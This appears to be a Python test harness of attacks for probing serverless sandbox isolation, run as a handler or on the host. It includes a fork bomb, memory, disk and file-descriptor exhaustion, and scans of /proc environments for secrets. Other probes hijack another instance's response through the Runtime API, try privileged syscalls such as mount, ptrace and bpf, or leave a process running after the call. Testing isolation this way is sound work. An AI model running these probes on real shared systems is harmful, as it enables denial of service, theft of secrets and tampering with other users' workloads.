"""Attacks on the sandbox, as a function. The same file runs on the host, `python attacks.py EVENT`, to prove that they work there."""

import ctypes
import errno
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request

libc = ctypes.CDLL(None, use_errno=True)
SYSCALLS = {
    "x86_64": {"mount": 165, "ptrace": 101, "bpf": 321, "keyctl": 250, "init_module": 175, "unshare": 272, "setns": 308},
    "aarch64": {"mount": 40, "ptrace": 117, "bpf": 280, "keyctl": 219, "init_module": 105, "unshare": 97, "setns": 268},
}[os.uname().machine]
NEW_USER = 0x10000000


def handler(event, context):
    return globals()[event["attack"]](**event.get("with", {}))


def failure(error):
    return errno.errorcode.get(error.errno, str(error))


def allocate(mb):
    block = bytearray(mb << 20)
    block[::4096] = b"x" * len(block[::4096])
    return len(block) >> 20


def loop():
    while True:
        pass


def forks(count):
    children = []
    try:
        while len(children) < count:
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
        return [len(children), None]
    except OSError as error:
        return [len(children), failure(error)]
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
        for child in children:
            os.waitpid(child, 0)


def fork_bomb():
    """Never ends by itself: every child does the same."""
    while True:
        try:
            os.fork()
        except OSError:
            pass


def fill(mb, directory="/tmp"):
    written, piece = 0, os.urandom(1 << 20)
    with tempfile.TemporaryFile(dir=directory, buffering=0) as file:
        try:
            while written < mb:
                written += file.write(piece) / len(piece)
            return [round(written), None]
        except OSError as error:
            return [round(written), failure(error)]


def open_files(count):
    """As many open files as may be had; what the process may raise, it raises."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    files = []
    try:
        while len(files) < count:
            files.append(os.open("/dev/null", os.O_RDONLY))
        return [len(files), None]
    except OSError as error:
        return [len(files), failure(error)]
    finally:
        for file in files:
            os.close(file)


def read(path):
    try:
        if os.path.isdir(path):
            return ["directory", len(os.listdir(path))]
        with open(path, "rb") as file:
            return ["file", len(file.read())]
    except OSError as error:
        return ["refused", failure(error)]


def write(path):
    try:
        with open(path, "w") as file:
            file.write("evil")
        os.unlink(path)
        return "written"
    except OSError as error:
        return failure(error)


def search(marker, roots):
    """Files and environments that hold the marker, wherever they can be read."""
    found = []
    own = {str(os.getpid()), "self", "thread-self"}
    for root in roots:
        for folder, folders, names in os.walk(root, followlinks=False):
            if root == "/proc":
                folders[:] = [name for name in folders if folder == "/proc" and name.isdigit() and name not in own]
                names = [name for name in names if folder != "/proc" and name in ("environ", "cmdline")]
            for name in names:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as file:
                        if marker.encode() in file.read(1 << 20):
                            found.append(path)
                except OSError:
                    pass
    return found


def processes():
    """The command lines of all processes that can be seen."""
    lines = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/cmdline") as file:
                lines.append(file.read().replace("\0", " "))
        except OSError:
            pass
    return lines


def connect(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close()
        return "connected"
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)


def serve(port, seconds):
    """Listens for a while, and tells whether anybody came."""
    with socket.create_server(("0.0.0.0", port)) as server:
        server.settimeout(seconds)
        try:
            server.accept()
            return "somebody came"
        except TimeoutError:
            return "nobody came"


def answer_for(request):
    """Answers another instance's call at the Runtime API."""
    url = f"http://{os.environ['AWS_LAMBDA_RUNTIME_API']}/2018-06-01/runtime/invocation/{request}/response"
    try:
        return urllib.request.urlopen(urllib.request.Request(url, b'"stolen"', method="POST")).status
    except urllib.error.HTTPError as error:
        return error.code


def patient(seconds):
    time.sleep(seconds)
    return "own"


def in_child(action):
    """What a system call answers, made in a process of its own so that its effect ends with it."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            result = action()
            os.write(writer, b"ok" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?").encode())
        finally:
            os._exit(0)
    os.close(writer)
    answer = os.read(reader, 100).decode()
    os.close(reader)
    os.waitpid(child, 0)
    return answer


def system_call(name):
    number, place = SYSCALLS[name], tempfile.mkdtemp().encode()
    calls = {
        # In a namespace of the child's own where that may be, so that nothing stays on the host.
        "mount": lambda: (libc.unshare(0x00020000), libc.syscall(number, b"none", place, b"tmpfs", 0, None))[1],
        "ptrace": lambda: libc.syscall(number, 0, 0, 0, 0),
        "bpf": lambda: libc.syscall(number, 0, (ctypes.c_uint32 * 18)(2, 4, 4, 1), 72),
        "keyctl": lambda: libc.syscall(number, 0, -3, 1, 0, 0),
        "init_module": lambda: libc.syscall(number, b"\0" * 64, 64, b""),
        "unshare": lambda: libc.syscall(number, NEW_USER),
        "setns": lambda: libc.syscall(number, os.open("/proc/self/ns/uts", os.O_RDONLY), 0),
    }
    try:
        return in_child(calls[name])
    finally:
        os.rmdir(place)


def leave_behind(marker):
    """Starts a process that outlives the call."""
    code = "import time\nwhile True: time.sleep(0.05)"
    subprocess.Popen([sys.executable, "-c", code, marker], start_new_session=True, stdin=subprocess.DEVNULL)
    return "left"


def large(mb):
    return "x" * (mb << 20)


if __name__ == "__main__":
    print(json.dumps(handler(json.loads(sys.argv[1]), None)))
